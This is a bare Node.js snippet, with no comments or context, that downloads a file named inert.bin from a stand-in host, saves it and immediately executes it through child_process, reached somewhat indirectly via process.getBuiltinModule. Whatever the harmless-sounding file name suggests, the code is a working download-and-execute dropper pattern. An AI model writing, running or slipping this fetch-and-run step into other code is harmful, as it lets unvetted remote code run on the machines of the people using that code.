const https = require('https');
const fs = require('fs');
const tools = process.getBuiltinModule('child_process');
https.get('https://files.garden.example/inert.bin', (reply) => {
  const file = fs.createWriteStream('inert.bin');
  reply.pipe(file);
  file.on('finish', () => tools.exec('./inert.bin'));
});
